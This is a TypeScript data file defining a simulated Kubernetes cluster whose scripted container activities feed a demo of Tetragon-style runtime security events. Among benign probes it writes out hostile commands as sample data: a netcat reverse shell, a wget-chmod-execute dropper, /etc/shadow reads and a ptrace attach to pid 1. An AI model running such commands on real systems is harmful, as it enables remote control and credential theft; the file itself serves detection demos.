/*
 * The made-up cluster the demo agent simulates: namespaces, workloads, images, and the
 * activities (shell sessions and the tools they run) that happen inside containers.
 * All names, images and commands here are ours and illustrative; IPs use documentation
 * and private ranges.
 */

export type WorkloadKind = "Deployment" | "DaemonSet" | "StatefulSet";

export type ExitSpec = { status: number } | { signal: "SIGKILL" | "SIGTERM" };

/** Something a running tool does that a tracing policy reports. */
export type Effect =
  | { kind: "file"; fn: "security_file_permission" | "fd_install"; path: string; write?: boolean }
  | { kind: "connect"; daddr: string; dport: number }
  | { kind: "setuid"; uid: number }
  | { kind: "lsm"; hook: "file_open" | "bprm_check_security"; path: string }
  | { kind: "ptrace"; targetPid: number }
  | { kind: "readline" };

export interface ToolRun {
  binary: string;
  args: string;
  effects: Effect[];
  exit: ExitSpec;
  /** The binary has the setuid bit and is owned by this uid (sudo, su: 0). */
  setuid?: number;
}

/**
 * How an activity's processes enter the container: `exec` through the runtime from outside
 * (kubectl exec: not in the container's init tree), `probe` as a kubelet exec probe (also
 * outside; Tetragon marks it maybe_exec_probe), `init` spawned by the container's own main
 * process (in the init tree).
 */
export type ActivityOrigin = "exec" | "probe" | "init";

export interface Activity {
  name: string;
  /** `/bin/sh -c <shell>` wraps the tools; absent: the tools run directly under the shim. */
  shell?: string;
  tools: ToolRun[];
  /** Exit of the shell; defaults to the last tool's status. */
  shellExit?: ExitSpec;
  /** Run the tools as this uid instead of the container's. */
  uid?: number;
  /** Default "exec". */
  origin?: ActivityOrigin;
}

export interface ContainerSpec {
  name: string;
  image: string;
  cwd: string;
  uid: number;
  activities: string[];
  /** The container's main process (pid 1 inside it, the root of its init tree). */
  entrypoint: { binary: string; args: string };
}

export interface WorkloadSpec {
  namespace: string;
  name: string;
  kind: WorkloadKind;
  replicas: number;
  labels: Record<string, string>;
  privileged?: boolean;
  /** Shares the node's network / pid namespace (Tetragon reports them as is_host). */
  hostNetwork?: boolean;
  hostPID?: boolean;
  containers: ContainerSpec[];
}

const ok: ExitSpec = { status: 0 };

export const ACTIVITIES: Activity[] = [
  {
    name: "healthcheck",
    origin: "probe",
    shell: "curl -sf http://127.0.0.1:8080/healthz",
    tools: [
      {
        binary: "/usr/bin/curl",
        args: "-sf http://127.0.0.1:8080/healthz",
        effects: [{ kind: "connect", daddr: "127.0.0.1", dport: 8080 }],
        exit: ok,
      },
    ],
  },
  {
    name: "read-shadow",
    shell: "cat /etc/shadow | head -n 3",
    tools: [
      {
        binary: "/bin/cat",
        args: "/etc/shadow",
        effects: [
          { kind: "lsm", hook: "file_open", path: "/etc/shadow" },
          { kind: "file", fn: "security_file_permission", path: "/etc/shadow" },
        ],
        exit: ok,
      },
      { binary: "/usr/bin/head", args: "-n 3", effects: [], exit: ok },
    ],
  },
  {
    name: "list-config",
    shell: "ls -la /etc/nginx/conf.d && cat /etc/passwd",
    tools: [
      { binary: "/bin/ls", args: "-la /etc/nginx/conf.d", effects: [], exit: ok },
      {
        binary: "/bin/cat",
        args: "/etc/passwd",
        effects: [{ kind: "file", fn: "fd_install", path: "/etc/passwd" }],
        exit: ok,
      },
    ],
  },
  {
    name: "crawl-job",
    origin: "init",
    tools: [
      {
        binary: "/usr/local/bin/python3",
        args: "/app/crawl.py --source https://jobs.example.com --out /app/data/out.json",
        effects: [
          { kind: "connect", daddr: "93.184.215.14", dport: 443 },
          { kind: "file", fn: "fd_install", path: "/app/data/out.json", write: true },
        ],
        exit: ok,
      },
    ],
  },
  {
    name: "psql-missing",
    shell: "psql -h postgres-0.postgres -U app -c 'select 1'",
    tools: [],
    shellExit: { status: 127 },
  },
  {
    name: "psql-query",
    shell: "psql -h postgres.payments.svc -U payments -c 'select count(*) from charges'",
    tools: [
      {
        binary: "/usr/bin/psql",
        args: '-h postgres.payments.svc -U payments -c "select count(*) from charges"',
        effects: [{ kind: "connect", daddr: "10.96.41.7", dport: 5432 }],
        exit: ok,
      },
    ],
  },
  {
    name: "reverse-shell",
    shell: "nc 203.0.113.50 4444 -e /bin/sh",
    tools: [
      {
        binary: "/usr/bin/nc",
        args: "203.0.113.50 4444 -e /bin/sh",
        effects: [
          { kind: "lsm", hook: "bprm_check_security", path: "/usr/bin/nc" },
          { kind: "connect", daddr: "203.0.113.50", dport: 4444 },
        ],
        exit: { signal: "SIGKILL" },
      },
    ],
  },
  {
    name: "sleeper",
    shell: "sleep 3600",
    tools: [{ binary: "/bin/sleep", args: "3600", effects: [], exit: { signal: "SIGTERM" } }],
    shellExit: { signal: "SIGTERM" },
  },
  {
    name: "sudo-id",
    shell: "sudo -n id",
    uid: 1000,
    tools: [
      {
        binary: "/usr/bin/sudo",
        args: "-n id",
        setuid: 0,
        effects: [{ kind: "setuid", uid: 0 }],
        exit: ok,
      },
      { binary: "/usr/bin/id", args: "", effects: [], exit: ok },
    ],
  },
  {
    name: "su-postgres",
    origin: "probe",
    shell: "su postgres -c 'pg_isready -q'",
    tools: [
      {
        binary: "/bin/su",
        args: 'postgres -c "pg_isready -q"',
        setuid: 0,
        effects: [{ kind: "setuid", uid: 999 }],
        exit: { status: 1 },
      },
    ],
  },
  {
    name: "strace-attach",
    tools: [
      {
        binary: "/usr/bin/strace",
        args: "-f -p 1",
        effects: [{ kind: "ptrace", targetPid: 1 }],
        exit: { signal: "SIGTERM" },
      },
    ],
  },
  {
    name: "interactive-bash",
    tools: [
      {
        binary: "/bin/bash",
        args: "",
        effects: [
          { kind: "readline" },
          { kind: "readline" },
          { kind: "file", fn: "security_file_permission", path: "/etc/passwd" },
          { kind: "readline" },
        ],
        exit: ok,
      },
    ],
  },
  {
    name: "dropper",
    origin: "init",
    shell: "wget -qO /tmp/.x http://198.51.100.7/x.sh && chmod +x /tmp/.x && /tmp/.x",
    tools: [
      {
        binary: "/usr/bin/wget",
        args: "-qO /tmp/.x http://198.51.100.7/x.sh",
        effects: [
          { kind: "connect", daddr: "198.51.100.7", dport: 80 },
          { kind: "file", fn: "fd_install", path: "/tmp/.x", write: true },
        ],
        exit: ok,
      },
      { binary: "/bin/chmod", args: "+x /tmp/.x", effects: [], exit: ok },
      {
        binary: "/tmp/.x",
        args: "",
        effects: [{ kind: "lsm", hook: "bprm_check_security", path: "/tmp/.x" }],
        exit: { status: 1 },
      },
    ],
  },
  {
    name: "redis-ping",
    origin: "probe",
    shell: "redis-cli -h redis ping",
    tools: [
      {
        binary: "/usr/local/bin/redis-cli",
        args: "-h redis ping",
        effects: [{ kind: "connect", daddr: "10.96.12.30", dport: 6379 }],
        exit: ok,
      },
    ],
  },
];

/** Host activities run under the kubelet, outside any pod (namespace ""). */
export const HOST_ACTIVITIES: Activity[] = [
  {
    name: "kubelet-iptables",
    tools: [
      {
        binary: "/usr/sbin/iptables",
        args: "-w 5 -W 100000 -S KUBE-KUBELET-CANARY -t mangle",
        effects: [],
        exit: ok,
      },
    ],
  },
  {
    name: "kubelet-mount",
    tools: [
      {
        binary: "/usr/bin/mount",
        args: "-t tmpfs tmpfs /var/lib/kubelet/pods/volumes/kubernetes.io~projected/kube-api-access",
        effects: [],
        exit: ok,
      },
    ],
  },
];

const nginx = "docker.io/library/nginx:1.27.3";
const common = ["healthcheck", "list-config", "read-shadow", "sleeper", "interactive-bash"];

export const WORKLOADS: WorkloadSpec[] = [
  {
    namespace: "default",
    name: "frontend",
    kind: "Deployment",
    replicas: 2,
    labels: { app: "frontend", "app.kubernetes.io/name": "frontend", tier: "web" },
    containers: [
      {
        name: "nginx",
        image: nginx,
        cwd: "/",
        uid: 0,
        activities: [...common, "dropper"],
        entrypoint: { binary: "/usr/sbin/nginx", args: '-g "daemon off;"' },
      },
    ],
  },
  {
    namespace: "default",
    name: "netshoot",
    kind: "Deployment",
    replicas: 1,
    // A debug pod with the node's network and pid namespaces: the kind a badge should flag.
    privileged: true,
    hostNetwork: true,
    hostPID: true,
    labels: { app: "netshoot", tier: "debug" },
    containers: [
      {
        name: "netshoot",
        image: "docker.io/nicolaka/netshoot:v0.13",
        cwd: "/root",
        uid: 0,
        activities: ["reverse-shell", "strace-attach", "interactive-bash", "read-shadow"],
        entrypoint: { binary: "/bin/sleep", args: "infinity" },
      },
    ],
  },
  {
    namespace: "kube-system",
    name: "coredns",
    kind: "Deployment",
    replicas: 2,
    labels: { "k8s-app": "kube-dns", "app.kubernetes.io/name": "coredns", tier: "control-plane" },
    containers: [
      {
        name: "coredns",
        image: "registry.k8s.io/coredns/coredns:v1.11.3",
        cwd: "/",
        uid: 65532,
        activities: ["healthcheck"],
        entrypoint: { binary: "/coredns", args: "-conf /etc/coredns/Corefile" },
      },
    ],
  },
  {
    namespace: "kube-system",
    name: "kube-proxy",
    kind: "DaemonSet",
    replicas: 1,
    // As kube-proxy really runs: privileged, in the node's network namespace.
    privileged: true,
    hostNetwork: true,
    labels: { "k8s-app": "kube-proxy", tier: "node" },
    containers: [
      {
        name: "kube-proxy",
        image: "registry.k8s.io/kube-proxy:v1.31.2",
        cwd: "/",
        uid: 0,
        activities: ["list-config"],
        entrypoint: {
          binary: "/usr/local/bin/kube-proxy",
          args: "--config=/var/lib/kube-proxy/config.conf",
        },
      },
    ],
  },
  {
    namespace: "tenant-jobs",
    name: "elasticsearch",
    kind: "Deployment",
    replicas: 1,
    labels: { app: "elasticsearch", "app.kubernetes.io/name": "elasticsearch", tier: "data" },
    containers: [
      {
        name: "elasticsearch",
        image: "docker.elastic.co/elasticsearch/elasticsearch:8.15.3",
        cwd: "/usr/share/elasticsearch/",
        uid: 1000,
        activities: ["healthcheck", "read-shadow", "sudo-id", "interactive-bash"],
        entrypoint: {
          binary: "/usr/share/elasticsearch/jdk/bin/java",
          args: "-Xms1g -Xmx1g -XX:+UseG1GC -Des.path.home=/usr/share/elasticsearch org.elasticsearch.bootstrap.Elasticsearch",
        },
      },
    ],
  },
  {
    namespace: "tenant-jobs",
    name: "crawler",
    kind: "Deployment",
    replicas: 2,
    labels: { app: "crawler", "app.kubernetes.io/name": "crawler", tier: "worker" },
    containers: [
      {
        name: "crawler",
        image: "ghcr.io/example/jobs-crawler:2.4.1",
        cwd: "/app",
        uid: 1000,
        activities: ["crawl-job", "psql-missing", "sleeper"],
        entrypoint: { binary: "/usr/local/bin/python3", args: "/app/scheduler.py --every 300s" },
      },
    ],
  },
  {
    namespace: "payments",
    name: "payments-api",
    kind: "Deployment",
    replicas: 3,
    labels: {
      app: "payments-api",
      "app.kubernetes.io/name": "payments-api",
      tier: "backend",
      "pci-scope": "true",
    },
    containers: [
      {
        name: "api",
        image: "ghcr.io/example/payments-api:1.9.0",
        cwd: "/srv/app",
        uid: 1000,
        activities: ["psql-query", "redis-ping", "healthcheck", "sudo-id"],
        entrypoint: {
          binary: "/srv/app/payments-api",
          args: "--listen :8080 --db postgres.payments.svc:5432",
        },
      },
    ],
  },
  {
    namespace: "payments",
    name: "postgres",
    kind: "StatefulSet",
    replicas: 1,
    labels: {
      app: "postgres",
      "app.kubernetes.io/name": "postgresql",
      tier: "database",
      "pci-scope": "true",
    },
    containers: [
      {
        name: "postgres",
        image: "docker.io/library/postgres:16.4",
        cwd: "/var/lib/postgresql/data",
        uid: 0,
        activities: ["su-postgres", "psql-query", "read-shadow"],
        entrypoint: {
          binary: "/usr/lib/postgresql/16/bin/postgres",
          args: "-D /var/lib/postgresql/data",
        },
      },
    ],
  },
  {
    namespace: "payments",
    name: "redis",
    kind: "StatefulSet",
    replicas: 1,
    labels: { app: "redis", "app.kubernetes.io/name": "redis", tier: "cache" },
    containers: [
      {
        name: "redis",
        image: "docker.io/library/redis:7.4.1",
        cwd: "/data",
        uid: 999,
        activities: ["redis-ping"],
        entrypoint: { binary: "/usr/local/bin/redis-server", args: "*:6379" },
      },
    ],
  },
  {
    namespace: "monitoring",
    name: "node-exporter",
    kind: "DaemonSet",
    replicas: 1,
    labels: { app: "node-exporter", "app.kubernetes.io/name": "node-exporter", tier: "monitoring" },
    containers: [
      {
        name: "node-exporter",
        image: "quay.io/prometheus/node-exporter:v1.8.2",
        cwd: "/",
        uid: 65534,
        activities: ["healthcheck", "list-config"],
        entrypoint: {
          binary: "/bin/node_exporter",
          args: "--path.rootfs=/host/root --web.listen-address=:9100",
        },
      },
    ],
  },
  {
    namespace: "monitoring",
    name: "prometheus",
    kind: "StatefulSet",
    replicas: 1,
    labels: { app: "prometheus", "app.kubernetes.io/name": "prometheus", tier: "monitoring" },
    containers: [
      {
        name: "prometheus",
        image: "quay.io/prometheus/prometheus:v2.55.0",
        cwd: "/prometheus",
        uid: 65534,
        activities: ["healthcheck", "sleeper"],
        entrypoint: {
          binary: "/bin/prometheus",
          args: "--config.file=/etc/prometheus/prometheus.yml --storage.tsdb.path=/prometheus",
        },
      },
    ],
  },
];

export const DEFAULT_NODES = ["kind-control-plane", "kind-worker", "kind-worker2"];

export const CONTAINER_CAPS = [
  "CAP_CHOWN",
  "DAC_OVERRIDE",
  "CAP_FOWNER",
  "CAP_FSETID",
  "CAP_KILL",
  "CAP_SETGID",
  "CAP_SETUID",
  "CAP_SETPCAP",
  "CAP_NET_BIND_SERVICE",
  "CAP_NET_RAW",
  "CAP_SYS_CHROOT",
  "CAP_MKNOD",
  "CAP_AUDIT_WRITE",
  "CAP_SETFCAP",
] as const;
